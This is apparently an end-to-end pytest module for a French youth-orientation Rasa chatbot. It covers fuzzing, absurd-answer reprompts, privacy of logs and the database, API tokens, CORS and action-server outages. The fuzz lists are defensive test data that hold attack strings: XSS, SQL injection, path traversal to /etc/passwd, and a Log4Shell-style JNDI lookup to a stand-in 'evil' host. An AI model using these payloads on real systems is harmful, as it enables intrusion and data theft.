"""Bad input, privacy and security, end to end on the real servers.

* Fuzz: 500+ generated messages over REST in a few parallel conversations — empty, 10,000
  characters, emoji, other scripts, markup, SQL, control characters, payload look-alikes — then every
  conversation must still reach suggestions. No 5xx, no action failure, every answer French.
* Absurd answers: a kind reprompt, and after three failed tries the offer to skip the question.
* Privacy: sensitive answers never reach the logs; « effacer mes données » leaves nothing in the
  SQLite file; a conversation idle for longer than a session starts again without its slots.
* Security: the HTTP API refuses a missing or wrong token; CORS admits only the configured origin.
* Faults, last (they stop and freeze the action server): the person is told kindly, in French, and
  pointed to the mission locale; when the server is back, the same conversation reaches its suggestions.

On the e2e session's stack (tests/e2e/conftest.py), whose logs therefore also hold the conversations of
the modules before this one: they too must be free of failures and of sensitive answers. The action
timeout is the shipped default.
"""

from __future__ import annotations

import json
import os
import random
import signal
import sqlite3
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Dict, List, Optional, Tuple

import pytest

from aiguillage.rasa.resilience import DEFAULT_TIMEOUT as ACTION_TIMEOUT
from tests.support.dialogue import (
    TECHNICAL_PROBLEM_MARK,
    Person,
    is_french,
    post,
    question_asked,
    reach_suggestions,
    reply_problems,
    reply_texts,
    say_ok,
)
from tests.support.stack import LOCAL_WEB_ORIGIN as ALLOWED_ORIGIN
from tests.support.stack import BotStack, http_json

pytestmark = pytest.mark.e2e


def log_text(bot: BotStack, name: str) -> str:
    return (bot.workdir / f"{name}.log").read_text(errors="replace")


def assert_no_failure_in_logs(bot: BotStack) -> None:
    actions, rasa = log_text(bot, "actions"), log_text(bot, "rasa")
    assert "Traceback" not in actions and " ERROR " not in actions, actions[-3000:]
    for marker in (
        "Traceback",
        "Encountered an exception",
        "Serveur d'actions indisponible",
        "Failed to execute custom action",
    ):
        assert marker not in rasa, rasa[rasa.find(marker) - 1500 : rasa.find(marker) + 1500]


# ------------------------------------------------------------------------------------------- fuzz

PAYLOADS = [
    "/restart",
    "/back",
    "/session_start",
    "/nlu_fallback",
    "/out_of_scope",
    "/inexistant",
    "/",
    "//",
    "/ ",
    '/inform{"age": -1}',
    '/inform{"age": 1e999}',
    '/inform{"age": "NaN"}',
    '/inform{"age": [1, 2]}',
    '/inform{"age": null}',
    '/inform{"commune": "<script>"}',
    '/inform{"commune": "<script>alert(1)</script>"}',
    '/inform{"code_insee": "00000"}',
    '/inform{"code_insee": "../../etc/passwd"}',
    '/inform{"besoin": "<img src=x onerror=alert(1)>"}',
    '/inform{"logement": "chateau"}',
    '/inform{"handicap": {"a": 1}}',
    '/inform{"permis": "peut-être"}',
    "/inform{",
    '/inform{"age": }',
    '/inform{"age": 19',
    '/ask_details{"suggestion": "../../x"}',
    '/ask_why_suggestion{"suggestion": 5}',
    "/request_summary",
    "/change_answer",
    "/decline",
    "/affirm",
    "/deny",
    "/dont_know",
    '/ask_definition{"terme": "<b>RQTH</b>"}',
    '/inform{"naissance": "31/02/2099"}',
    "/start_over",
    "/stop",
    "/greet",
    '/inform{"quartier": "' + "q" * 500 + '"}',
]
MARKUP = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bonjour</b>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "<!--",
    "]]>",
    "&lt;&gt;&amp;",
    "<iframe src=//evil>",
]
SQL = [
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "1; SELECT * FROM events",
    "Robert'); DROP TABLE students;--",
    "' UNION SELECT sender_id, data FROM events --",
]
LANGUAGES = [
    "مرحبا، أبحث عن عمل",
    "שלום, אני מחפש עבודה",
    "你好，我在找工作",
    "Привет, я ищу работу",
    "Hello, I'm looking for a job",
    "Hola, busco trabajo",
    "Merhaba, iş arıyorum",
    "Γεια σας",
    "नमस्ते",
    "こんにちは",
]
EMOJI = ["😀", "😀😀😀😀", "🏳️‍🌈", "👍🏽👍🏽", "🤖💬🚗🏠", "❤️" * 50, "🇫🇷"]
CONTROL = [
    "\u0000",
    "\u0000\u0001\u0002\u0003",
    "\x1b[2J\x1b[31mrouge",
    "\u0007\u0008",
    "ligne\r\nligne",
    "\t\t\t",
    "\u200b\u200c\u200d",
    "\ufeffbonjour",
    "\udcff".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
]
RTL = ["\u202eruoj nob", "\u200fمرحبا\u200f 19 ans", "\u202bשלום\u202c Fougères", "abc\u202edef\u202cghi"]
DIGITS = [
    "0",
    "7",
    "19",
    "-1",
    "150",
    "35300",
    "123456789",
    "99999999999999999999999",
    "3.14",
    "1e308",
    "١٩",
    "٣٥٣٠٠",
    "0x1F",
]
WORDS = ["anticonstitutionnellement" * 40, "a" * 2000, "ah" * 1000, "x" * 500 + " " + "y" * 500]
REALISTIC = [
    "bonjour",
    "je cherche un emploi",
    "j'ai 19 ans",
    "Fougères",
    "non",
    "oui",
    "je sais pas",
    "c'est quoi la rqth ?",
    "pourquoi cette question ?",
    "merci",
    "t'es un robot ?",
    "je préfère ne pas répondre",
    "recommencer",
    "en fait j'ai 20 ans",
    "j'habite à Lyon",
    "chez mes parents",
    "g pa le permi",
    "parler à quelqu'un",
]


def long_message(rng: random.Random) -> str:
    kind = rng.randrange(3)
    if kind == 0:
        return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzéèàç ") for _ in range(10_000))
    if kind == 1:
        return " ".join(rng.choice(REALISTIC) for _ in range(700))[:10_000]
    return "".join(chr(rng.randrange(0x20, 0x2FFF)) for _ in range(10_000))


def fuzz_message(rng: random.Random) -> Any:
    """One generated message; about one in four is an ordinary answer, so that the questionnaire moves on
    and the odd messages arrive at every question."""
    category = rng.choices(
        [
            "empty",
            "space",
            "long",
            "emoji",
            "language",
            "markup",
            "sql",
            "control",
            "rtl",
            "digits",
            "word",
            "payload",
            "mixed",
            "realistic",
        ],
        weights=[3, 3, 2, 4, 4, 4, 3, 4, 3, 5, 2, 12, 6, 25],
    )[0]
    pick = {
        "empty": lambda: "",
        "space": lambda: rng.choice([" ", "\n", " \t \n ", "\u00a0", "\u3000"]),
        "long": lambda: long_message(rng),
        "emoji": lambda: rng.choice(EMOJI),
        "language": lambda: rng.choice(LANGUAGES),
        "markup": lambda: rng.choice(MARKUP),
        "sql": lambda: rng.choice(SQL),
        "control": lambda: rng.choice(CONTROL),
        "rtl": lambda: rng.choice(RTL),
        "digits": lambda: rng.choice(DIGITS),
        "word": lambda: rng.choice(WORDS),
        "payload": lambda: rng.choice(PAYLOADS),
        "mixed": lambda: " ".join(
            rng.choice(REALISTIC + MARKUP + EMOJI + DIGITS + SQL) for _ in range(rng.randint(2, 5))
        ),
        "realistic": lambda: rng.choice(REALISTIC),
    }
    return pick[category]()


# Conversations run in parallel, like people do; 16 × 32 = 512 messages. Bounded: past FUZZ_DEADLINE
# seconds no more messages are sent and the test fails (56 s on an idle 2-core machine).
FUZZ_CONVERSATIONS, FUZZ_MESSAGES_EACH, FUZZ_DEADLINE = 16, 32, 900.0


def fuzz_conversation(bot: BotStack, index: int, deadline: float) -> Dict[str, Any]:
    rng = random.Random(20261125 + index)
    sender = f"fuzz-{index}-{uuid.uuid4().hex[:8]}"
    failures: List[str] = []
    slowest = 0.0
    say_ok(bot, sender, "bonjour")
    for _ in range(FUZZ_MESSAGES_EACH - 1):
        if time.monotonic() > deadline:
            failures.append(f"trop lent : délai de {FUZZ_DEADLINE:.0f} s dépassé")
            break
        message = fuzz_message(rng)
        started = time.monotonic()
        status, replies = post(bot, sender, message)
        slowest = max(slowest, time.monotonic() - started)
        if status != 200:
            failures.append(f"{message[:60]!r} → HTTP {status}")
            continue
        failures += [f"{message[:60]!r} → {problem}" for problem in reply_problems(replies)]
    # The same conversation still works: answering the questions still leads to suggestions.
    reach_suggestions(bot, sender, Person(commune=rng.choice(["Fougères", "Lyon", "Vaulx-en-Velin", "35300"])))
    return {"sender": sender, "failures": failures, "slowest": slowest}


def test_fuzzed_messages_never_break_a_conversation(bot):
    started = time.monotonic()
    with ThreadPoolExecutor(FUZZ_CONVERSATIONS) as pool:
        results = list(
            pool.map(lambda i: fuzz_conversation(bot, i, started + FUZZ_DEADLINE), range(FUZZ_CONVERSATIONS))
        )
    elapsed = time.monotonic() - started
    failures = [f"{r['sender']}: {f}" for r in results for f in r["failures"]]
    summary = (
        f"fuzz: {FUZZ_CONVERSATIONS * FUZZ_MESSAGES_EACH} messages in {elapsed:.0f} s, "
        f"slowest answer {max(r['slowest'] for r in results):.1f} s, {len(failures)} problems"
    )
    print("\n" + summary)
    (bot.workdir / "fuzz.txt").write_text(summary + "\n" + "\n".join(failures) + "\n", encoding="utf-8")
    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures[:40])
    assert_no_failure_in_logs(bot)


def test_malformed_requests_get_a_400_not_a_shared_conversation_or_a_500(bot):
    """Rasa alone would answer these 200 (without « sender »: everyone's shared "default" conversation;
    without a text message: an empty answer) or 500 (a body that is not an object)."""
    for body in [
        {"sender": "x"},
        {"message": "bonjour"},
        {"sender": None, "message": "bonjour"},
        {"sender": "", "message": "bonjour"},
        {"sender": "x", "message": None},
        {"sender": "x", "message": 12},
        {"sender": "x", "message": ["a"]},
        {"sender": "x" * 5000, "message": "bonjour"},
        [],
        "texte",
        None,
    ]:
        status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", json.dumps(body).encode())
        assert status == 400, (body, status, answer)
    status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", b"{not json")
    assert status == 400, answer
    status, _ = status_and_body(
        f"{bot.url}/webhooks/rest/webhook", json.dumps({"sender": "gros", "message": "x" * 2_000_000}).encode()
    )
    assert status == 413
    assert "Traceback" not in log_text(bot, "rasa")


def status_and_body(url: str, data: bytes) -> Tuple[int, str]:
    request = urllib.request.Request(url, data=data, method="POST", headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


# ------------------------------------------------------------------------------------------- absurd answers


def test_absurd_answers_get_a_kind_reprompt_then_the_offer_to_skip(bot):
    sender = f"absurde-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    replies = say_ok(bot, sender, "je cherche un emploi")
    assert question_asked(replies) == "age"
    replies = say_ok(bot, sender, "j'ai 150 ans")
    assert any("150 ans" in t and "mal compris" in t for t in reply_texts(replies)), reply_texts(replies)
    assert not any(b["payload"] == "/decline" for r in replies for b in r.get("buttons") or [])
    replies = say_ok(bot, sender, "j'ai 3 ans")
    assert any("3 ans, vraiment" in t for t in reply_texts(replies)), reply_texts(replies)
    replies = say_ok(bot, sender, "j'ai 200 ans")
    skip = [b for r in replies for b in r.get("buttons") or [] if b["payload"] == "/decline"]
    assert skip and skip[0]["title"] == "Passer cette question", replies
    assert any("Voulez-vous la passer" in t for t in reply_texts(replies))
    assert bot.slots(sender)["age"] is None
    # Taking the offer moves on to the next question; the age is simply not used.
    replies = say_ok(bot, sender, "/decline")
    assert question_asked(replies) == "commune", reply_texts(replies)
    assert "age" in bot.slots(sender)["skipped_slots"]
    reach_suggestions(bot, sender, Person(), replies)


def test_an_unknown_commune_gets_a_kind_reprompt(bot):
    sender = f"commune-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    say_ok(bot, sender, "je cherche une formation")
    replies = say_ok(bot, sender, "20 ans")
    assert question_asked(replies) == "commune"
    replies = say_ok(bot, sender, "Trifouillis-les-Oies")
    assert any("Je ne trouve pas cette commune" in t for t in reply_texts(replies)), reply_texts(replies)
    replies = say_ok(bot, sender, "35300")
    assert bot.slots(sender)["commune"] == "Fougères"
    reach_suggestions(bot, sender, Person(), replies)


def test_declining_a_question_moves_on(bot):
    sender = f"refus-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    say_ok(bot, sender, "je cherche un emploi")
    replies = say_ok(bot, sender, "je préfère ne pas répondre")
    assert question_asked(replies) == "commune", reply_texts(replies)
    replies = say_ok(bot, sender, "/decline")
    assert question_asked(replies) in ("permis", "qpv"), reply_texts(replies)
    assert {"age", "commune"} <= set(bot.slots(sender)["skipped_slots"])


# ------------------------------------------------------------------------------------------- privacy

# (« je dors à la rue » is a danger: the safety layer answers it and masks it, tests/e2e/test_safety.py.)
SENSITIVE = [
    "j'ai la rqth",
    "je suis hébergée chez une copine",
    "je sors de prison",
    "j'ai fait de la prison",
    "je suis sous bracelet électronique",
]


def test_sensitive_answers_never_reach_the_logs(bot):
    sender = f"sensible-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    replies = say_ok(bot, sender, "je cherche un logement, " + SENSITIVE[1])
    for message in SENSITIVE[2:]:
        replies = say_ok(bot, sender, message)
    replies = say_ok(bot, sender, SENSITIVE[0])
    slots = bot.slots(sender)
    assert slots["logement"] == "heberge-tiers" and slots["rqth"] is True and slots["handicap"] is True
    reach_suggestions(bot, sender, Person(besoin="je cherche un logement"), replies)
    time.sleep(0.5)  # let both servers flush their logs
    for name in ("rasa", "actions"):
        log = log_text(bot, name).lower()
        for phrase in SENSITIVE + ["dors a la rue", "sans-domicile", "prison", "bracelet"]:
            for form in {phrase.lower(), json.dumps(phrase)[1:-1].lower()}:
                assert form not in log, f"« {phrase} » dans {name}.log"
        assert bot.token not in log, f"le jeton de l'API est dans {name}.log"


def stored_rows(bot: BotStack, sender: str) -> List[Tuple[str, str]]:
    with sqlite3.connect(bot.workdir / "tracker.db") as connection:
        return connection.execute("SELECT type_name, data FROM events WHERE sender_id = ?", (sender,)).fetchall()


def in_database_file(bot: BotStack, text: str) -> bool:
    data = (bot.workdir / "tracker.db").read_bytes()
    return text.encode() in data or json.dumps(text)[1:-1].encode() in data


def test_erase_my_data_leaves_nothing_in_the_database(bot):
    sender = f"effacer-{uuid.uuid4().hex[:8]}"
    # Phrases no other test sends: the whole file is searched.
    said = [
        "bonjour",
        "je cherche un emploi dans la logistique",
        "j'ai 23 ans",
        "j'habite à Vaulx-en-Velin",
        "je dors chez un pote depuis avril",
    ]
    for message in said:
        say_ok(bot, sender, message)
    assert bot.slots(sender)["commune"] == "Vaulx-en-Velin"
    assert any("dors chez un pote" in data for _, data in stored_rows(bot, sender))
    replies = say_ok(bot, sender, "effacer mes données")
    assert any("effacé" in t for t in reply_texts(replies)), reply_texts(replies)
    assert stored_rows(bot, sender) == []
    # (« effacer mes données » itself is not searched: the welcome message of every conversation says it.)
    for message in said[1:]:
        assert not in_database_file(bot, message), f"« {message} » est encore dans tracker.db"
    # The person can start again; the new conversation knows nothing of the old one.
    say_ok(bot, sender, "bonjour")
    slots = bot.slots(sender)
    assert slots["commune"] is None and slots["age"] is None and slots["logement"] is None


def test_an_expired_session_starts_again_without_slots(bot):
    """domain.yml: 60 minutes, nothing carried over. The previous session is written with timestamps two
    hours old (the API's « replace events »), then the person writes again."""
    sender = f"session-{uuid.uuid4().hex[:8]}"
    old = time.time() - 2 * 3600
    events = [
        {"event": "action", "name": "action_session_start", "timestamp": old},
        {"event": "session_started", "timestamp": old + 0.01},
        {"event": "action", "name": "action_listen", "timestamp": old + 0.02},
        {
            "event": "user",
            "text": "j'ai 19 ans, j'habite à Fougères et je dors dans ma voiture",
            "timestamp": old + 0.03,
            "parse_data": {"intent": {"name": "inform", "confidence": 1.0}, "entities": []},
        },
        *[
            {"event": "slot", "name": name, "value": value, "timestamp": old + 0.04}
            for name, value in {
                "age": 19.0,
                "commune": "Fougères",
                "code_insee": "35115",
                "logement": "sans-domicile",
            }.items()
        ],
        {"event": "action", "name": "action_listen", "timestamp": old + 0.05},
    ]
    http_json("PUT", f"{bot.url}/conversations/{sender}/tracker/events?token={bot.token}", events)
    assert bot.slots(sender)["commune"] == "Fougères"
    say_ok(bot, sender, "bonjour")
    tracker = bot.tracker(sender)
    slots = tracker["slots"]
    assert slots["age"] is None and slots["commune"] is None and slots["logement"] is None
    assert [e["event"] for e in tracker["events"]].count("session_started") == 1
    # And the expired session is gone from the database, as the bot tells people (utter_privacy).
    assert not in_database_file(bot, "dors dans ma voiture")


# ------------------------------------------------------------------------------------------- security


def status_of(
    method: str, url: str, headers: Optional[Dict[str, str]] = None, body: Any = None
) -> Tuple[int, Dict[str, str]]:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        url, data=data, method=method, headers={"Content-Type": "application/json", **(headers or {})}
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, dict(response.headers)
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers)


def test_the_http_api_refuses_a_missing_or_wrong_token(bot):
    sender = f"api-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    tracker = f"{bot.url}/conversations/{sender}/tracker"
    assert status_of("GET", tracker)[0] == 401
    assert status_of("GET", f"{tracker}?token=")[0] == 401
    assert status_of("GET", f"{tracker}?token=wrong-{bot.token}")[0] == 401
    assert status_of("GET", f"{tracker}?token={bot.token[:-1]}")[0] == 401
    assert status_of("GET", tracker, headers={"Authorization": f"Bearer {bot.token}"})[0] == 401
    assert status_of("PUT", f"{tracker}/events", body=[])[0] == 401
    assert status_of("POST", f"{bot.url}/conversations/{sender}/trigger_intent", body={"name": "greet"})[0] == 401
    assert status_of("GET", f"{tracker}?token={bot.token}")[0] == 200


def test_cors_admits_only_the_configured_origin(bot):
    webhook = f"{bot.url}/webhooks/rest/webhook"
    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    status, headers = status_of("OPTIONS", webhook, headers={"Origin": ALLOWED_ORIGIN, **preflight})
    assert status < 400 and headers.get("Access-Control-Allow-Origin") == ALLOWED_ORIGIN, (status, headers)
    for origin in ["https://evil.example", "http://localhost:8081", "http://localhost:8080.evil.example", "null"]:
        status, headers = status_of("OPTIONS", webhook, headers={"Origin": origin, **preflight})
        assert headers.get("Access-Control-Allow-Origin") not in (origin, "*"), (origin, headers)
        status, headers = status_of(
            "POST", webhook, headers={"Origin": origin}, body={"sender": "cors", "message": "bonjour"}
        )
        assert headers.get("Access-Control-Allow-Origin") not in (origin, "*"), (origin, headers)


# ------------------------------------------------------------------------------------------- faults (last)


def say(bot: BotStack, sender: str, message: str):
    return http_json("POST", f"{bot.url}/webhooks/rest/webhook", {"sender": sender, "message": message}, timeout=60)


def assert_kind_apology(replies) -> None:
    texts = reply_texts(replies)
    apologies = [t for t in texts if TECHNICAL_PROBLEM_MARK in t]
    assert len(apologies) == 1, texts  # once per message, however many actions failed
    assert "mission locale" in apologies[0] and "Réessayez" in apologies[0]
    assert all(is_french(t) for t in texts)


def test_action_server_down_then_back(bot):
    sender = f"panne-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    replies = say_ok(bot, sender, "je cherche un emploi")
    assert question_asked(replies) == "age"

    bot.services["actions"].stop()
    started = time.monotonic()
    assert_kind_apology(say(bot, sender, "j'ai 19 ans"))
    assert time.monotonic() - started < ACTION_TIMEOUT, "a refused connection is answered at once"
    assert_kind_apology(say(bot, sender, "j'ai 19 ans"))  # still down: still kind, still answered

    bot.start_actions()  # same port: Rasa's endpoint is unchanged
    replies = say_ok(bot, sender, "j'ai 19 ans")
    assert bot.slots(sender)["age"] == 19
    reach_suggestions(bot, sender, Person(), replies)
    rasa_log = (bot.workdir / "rasa.log").read_text(errors="replace")
    assert "Serveur d'actions indisponible" in rasa_log and "Traceback" not in rasa_log


def test_action_server_frozen_then_back(bot):
    """A hung server (SIGSTOP: connections accepted, never answered) is the « slow » case."""
    sender = f"lent-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    say_ok(bot, sender, "je cherche une formation")
    actions = bot.services["actions"].process
    os.killpg(actions.pid, signal.SIGSTOP)
    try:
        started = time.monotonic()
        assert_kind_apology(say(bot, sender, "j'ai 22 ans"))
        elapsed = time.monotonic() - started
        # One timeout, not one per action: the other calls of the same message fail at once.
        assert elapsed < 2 * ACTION_TIMEOUT + 1, f"answered after {elapsed:.1f} s"
    finally:
        os.killpg(actions.pid, signal.SIGCONT)
    replies = say_ok(bot, sender, "j'ai 22 ans")
    assert bot.slots(sender)["age"] == 22
    reach_suggestions(bot, sender, Person(besoin="je cherche une formation"), replies)


def test_a_new_conversation_while_the_action_server_is_down(bot):
    sender = f"panne-debut-{uuid.uuid4().hex[:8]}"
    bot.services["actions"].stop()
    try:
        replies = say(bot, sender, "bonjour, je cherche du travail, j'ai 20 ans")
        assert_kind_apology(replies)
    finally:
        bot.start_actions()
    reach_suggestions(bot, sender, Person())
